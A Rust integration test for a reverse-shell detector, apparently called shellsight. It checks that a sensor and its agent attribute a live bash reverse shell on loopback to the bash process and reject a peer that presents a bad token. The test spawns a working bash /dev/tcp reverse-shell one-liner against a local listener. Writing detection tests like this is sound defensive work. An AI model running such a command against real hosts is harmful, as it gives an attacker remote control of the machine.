//! The live sensor with agents: an agent streams its inventory over TCP to a sensor
//! capturing on loopback, a real bash reverse shell runs against a listener typing
//! commands, and the alert names the shell process. A peer with a wrong token is
//! rejected. Needs root (live capture); set SHELLSIGHT_SKIP_PRIVILEGED=1 to skip.

mod agent_support;
mod common;
mod pki_support;

use agent_support::privileged;
use common::*;
use std::net::TcpListener;
use std::process::{Command, Stdio};
use std::time::Duration;

fn free_port() -> u16 {
    TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port()
}

#[test]
fn an_agent_stream_attributes_a_live_reverse_shell_and_bad_tokens_are_rejected() {
    if privileged() {
        live_shell_through_the_channel(None);
    }
}

/// The same over mutual TLS: the agent verifies the sensor and presents its own
/// certificate, as `deploy/systemd` sets it up.
#[test]
fn over_mutual_tls_the_agent_stream_attributes_a_live_reverse_shell() {
    if privileged() {
        let pki = pki_support::Pki::new("sensor-agents");
        live_shell_through_the_channel(Some(&pki));
    }
}

fn live_shell_through_the_channel(pki: Option<&pki_support::Pki>) {
    let tag = if pki.is_some() { "mtls" } else { "plain" };
    let dir = std::env::temp_dir().join(format!("ss-sensor-agents-{tag}-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let token = dir.join("token");
    std::fs::write(&token, "a-shared-token-for-tests-0123456789\n").unwrap();
    let bad_token = dir.join("bad-token");
    std::fs::write(&bad_token, "not-the-right-token-0123456789\n").unwrap();
    for t in [&token, &bad_token] {
        std::fs::set_permissions(t, std::os::unix::fs::PermissionsExt::from_mode(0o600)).unwrap();
    }
    let alerts = dir.join("alerts.jsonl");
    let (shell_port, agent_port) = (free_port(), free_port());
    let listen = format!("127.0.0.1:{agent_port}");

    let path = |f: &str| pki.map(|p| p.path(f).to_str().unwrap().to_string()).unwrap_or_default();
    let (sensor_tls, agent_tls) = match pki {
        Some(_) => (
            vec![
                "--agent-tls-cert".to_string(),
                path("sensor.pem"),
                "--agent-tls-key".into(),
                path("sensor.key"),
                "--agent-tls-client-ca".into(),
                path("ca.pem"),
            ],
            vec![
                "--tls-ca".to_string(),
                path("ca.pem"),
                "--tls-cert".into(),
                path("agent.pem"),
                "--tls-key".into(),
                path("agent.key"),
            ],
        ),
        None => (Vec::new(), Vec::new()),
    };
    let sensor = Command::new(bin())
        .args(["sensor", "--interface", "lo", "--bpf", &format!("tcp port {shell_port}")])
        .args(["--agent-listen", &listen, "--token-file", token.to_str().unwrap()])
        .args(&sensor_tls)
        .args(["--duration", "24", "--format", "json", "-o", alerts.to_str().unwrap(), "-v"])
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    std::thread::sleep(Duration::from_millis(1500));
    let mut agent = Command::new(bin())
        .args(["agent", "--connect", &listen, "--token-file", token.to_str().unwrap(), "--interval", "500ms"])
        .args(["--duration", "22"])
        .args(&agent_tls)
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let mut intruder = Command::new(bin())
        .args(["agent", "--connect", &listen, "--token-file", bad_token.to_str().unwrap(), "--duration", "3"])
        .args(&agent_tls)
        .stderr(Stdio::null())
        .spawn()
        .unwrap();

    let listener = TcpListener::bind(("127.0.0.1", shell_port)).unwrap();
    let typist = std::thread::spawn(move || operator(listener));
    std::thread::sleep(Duration::from_millis(1000));
    let mut shell = Command::new("bash")
        .args(["-c", &format!("exec bash --norc -i >& /dev/tcp/127.0.0.1/{shell_port} 0>&1")])
        .stdin(Stdio::null())
        .spawn()
        .unwrap();
    typist.join().unwrap();
    let _ = shell.wait();
    let _ = intruder.wait();
    let _ = agent.wait();
    let out = sensor.wait_with_output().unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "sensor failed: {err}");
    assert!(err.contains("rejected: bad token"), "the bad token was not rejected and logged:\n{err}");

    let records = json_lines(&std::fs::read(&alerts).unwrap());
    let alerts: Vec<_> = records.iter().filter(|r| r["event"]["kind"] == "alert").collect();
    assert!(!alerts.is_empty(), "no alert:\n{err}");
    let attributed = alerts
        .iter()
        .find(|a| a["process"]["name"] == "bash")
        .unwrap_or_else(|| panic!("no alert names the bash process: {alerts:?}"));
    assert_eq!(attributed["shellsight"]["tier"], "high");
    let reasons = attributed["shellsight"]["reasons"].as_array().unwrap();
    assert!(reasons.iter().any(|r| r == "stdio-socket"), "{reasons:?}");
    assert!(attributed["process"]["command_line"].as_str().unwrap().contains("bash --norc -i"));
    assert!(attributed["host"]["name"].is_string());
    let stats = records.iter().rfind(|r| r["event"]["kind"] == "metric").expect("no stats record");
    let channel = &stats["shellsight"]["stats"]["agent_channel"];
    // The intruder retries with backoff, so it is refused once or more, and never served.
    assert!(channel["rejected_token"].as_u64() >= Some(1), "{channel}");
    assert_eq!(channel["rejected_tls"], 0, "{channel}");
    assert!(channel["authenticated"].as_u64() >= Some(1), "{channel}");
    let _ = std::fs::remove_dir_all(&dir);
}
